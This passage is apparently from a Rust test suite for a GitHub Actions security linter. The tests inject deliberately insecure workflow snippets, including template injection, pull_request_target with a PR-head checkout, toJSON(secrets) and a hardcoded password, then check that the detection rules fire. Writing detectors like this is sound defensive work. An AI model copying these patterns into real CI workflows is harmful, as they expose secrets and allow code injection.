        let w = golden().replace(
            "permissions: {}",
            "permissions:\n  contents: read\n  packages: write",
        );
        assert_eq!(wf(&w), one("PVD-GHA-003", 8));
    }

    #[test]
    fn gha004_005_dangerous_triggers() {
        let w = golden().replace("  pull_request:\n", "  pull_request_target:\n");
        assert_eq!(wf(&w), one("PVD-GHA-004", 3));
        let w = w.replace(
            "          persist-credentials: false\n",
            "          persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}\n",
        );
        let mut got = wf(&w);
        got.sort();
        assert_eq!(
            got,
            [
                ("PVD-GHA-004".into(), Some(3)),
                ("PVD-GHA-005".into(), Some(16))
            ]
        );
    }

    #[test]
    fn gha006_template_injection() {
        let w = golden().replace(
            "run: echo \"$TITLE\"",
            "run: echo \"${{ github.event.pull_request.title }}\"",
        );
        assert_eq!(wf(&w), one("PVD-GHA-006", 19));
        let script = format!("      - uses: actions/github-script@{PIN}\n        with:\n          script: |\n            console.log(\"${{{{ github.event.comment.body }}}}\")\n  call:");
        let w = golden().replacen("  call:", &script, 1);
        assert_eq!(wf(&w), one("PVD-GHA-006", 26));
        let w = golden().replace(
            "run: echo \"$TITLE\"",
            "run: |\n          echo ok\n          echo \"${{ github.head_ref }}\"",
        );
        assert_eq!(wf(&w), one("PVD-GHA-006", 21));
    }

    #[test]
    fn gha007_input_injection() {
        let w = golden().replace(
            "run: cargo deny check",
            "run: cargo deny check ${{ inputs.args }}",
        );
        assert_eq!(wf(&w), one("PVD-GHA-007", 20));
    }

    #[test]
    fn gha008_persist_credentials() {
        let w = golden().replace("        with:\n          persist-credentials: false\n", "");
        assert_eq!(wf(&w), one("PVD-GHA-008", 13));
    }

    #[test]
    fn gha009_secrets_inherit() {
        let w = golden().replace(
            "    secrets:\n      token: ${{ secrets.TOKEN }}",
            "    secrets: inherit",
        );
        assert_eq!(wf(&w), one("PVD-GHA-009", 27));
        let w = golden().replace(
            "run: echo \"$TITLE\"",
            "run: echo \"$TITLE\"\n        env:\n          ALL: ${{ toJSON(secrets) }}",
        );
        assert_eq!(wf(&w), one("PVD-GHA-009", 21));
    }

    #[test]
    fn gha010_unsecure_commands() {
        let w = golden().replace(
            "permissions: {}",
            "permissions: {}\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
        );
        assert_eq!(wf(&w), one("PVD-GHA-010", 8));
    }

    #[test]
    fn gha011_self_hosted() {
        let w = golden().replace("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]");
        assert_eq!(wf(&w), one("PVD-GHA-011", 9));
    }

    #[test]
    fn gha012_silent_scanner() {
        let w = golden().replace("run: cargo deny check", "run: cargo deny check || true");
        assert_eq!(wf(&w), one("PVD-GHA-012", 20));
        let w = golden().replace(
            "run: cargo deny check",
            "continue-on-error: true\n        run: cargo deny check",
        );
        assert_eq!(wf(&w), one("PVD-GHA-012", 20));
        let w = golden().replace(
            "      - run: cargo deny check\n",
            &format!("      - uses: aquasecurity/trivy-action@{PIN}\n        with: {{scan-type: image, image-ref: app}}\n"),
        );
        assert_eq!(wf(&w), one("PVD-GHA-012", 20));
    }

    #[test]
    fn gha013_github_env() {
        let w = golden()
            .replace("  pull_request:\n", "  workflow_run:\n")
            .replace(
                "run: echo \"$TITLE\"",
                "run: echo \"T=$TITLE\" >> \"$GITHUB_ENV\"",
            );
        let mut got = wf(&w);
        got.sort();
        assert_eq!(
            got,
            [
                ("PVD-GHA-004".into(), Some(3)),
                ("PVD-GHA-013".into(), Some(19))
            ]
        );
    }

    #[test]
    fn gha014_container_credentials() {
        let w = golden().replace(
            "    runs-on: ubuntu-latest\n",
            "    runs-on: ubuntu-latest\n    container:\n      image: ghcr.io/o/i@sha256:abc\n      credentials:\n        username: u\n        password: hunter2\n",
        );
        assert_eq!(wf(&w), one("PVD-GHA-014", 14));
        let w = golden().replace(
            "    runs-on: ubuntu-latest\n",
            "    runs-on: ubuntu-latest\n    services:\n      db:\n        image: postgres:16\n",
        );
        assert_eq!(wf(&w), one("PVD-GHA-017", 12));
    }

    #[test]
    fn gha015_dependabot_cooldown() {
        let good = "version: 2\nupdates:\n  - package-ecosystem: cargo\n    directory: /\n    schedule: {interval: weekly}\n    cooldown:\n      default-days: 7\n";
        assert!(hits(&[(".github/dependabot.yml", good)]).is_empty());
        let bad = good.replace("    cooldown:\n      default-days: 7\n", "");
        assert_eq!(
            hits(&[(".github/dependabot.yml", &bad)]),
            one("PVD-GHA-015", 3)
        );
    }

    #[test]
    fn gha016_release_cache() {
        let w = format!("on:\n  release:\n    types: [published]\npermissions: {{}}\njobs:\n  r:\n    runs-on: ubuntu-latest\n    permissions: {{contents: read}}\n    steps:\n      - uses: actions/cache@{PIN}\n");
        assert_eq!(wf(&w), one("PVD-GHA-016", 10));
    }

    #[test]
    fn docker_action_image_is_checked() {
        let a = "runs:\n  using: docker\n  image: docker://alpine:3\n";
        assert_eq!(hits(&[("action.yml", a)]), one("PVD-GHA-001", 3));
        let a = "runs:\n  using: docker\n  image: Dockerfile\n";
        assert!(hits(&[("action.yml", a)]).is_empty());
    }

    #[test]
    fn composite_action_is_checked() {
        let a = "runs:\n  using: composite\n  steps:\n    - uses: actions/setup-node@v4\n    - run: echo ${{ inputs.x }}\n      shell: bash\n";
        let mut got = hits(&[("action.yml", a)]);
        got.sort();
        assert_eq!(
            got,
            [
                ("PVD-GHA-001".into(), Some(4)),
                ("PVD-GHA-007".into(), Some(5))
            ]
        );
    }
}
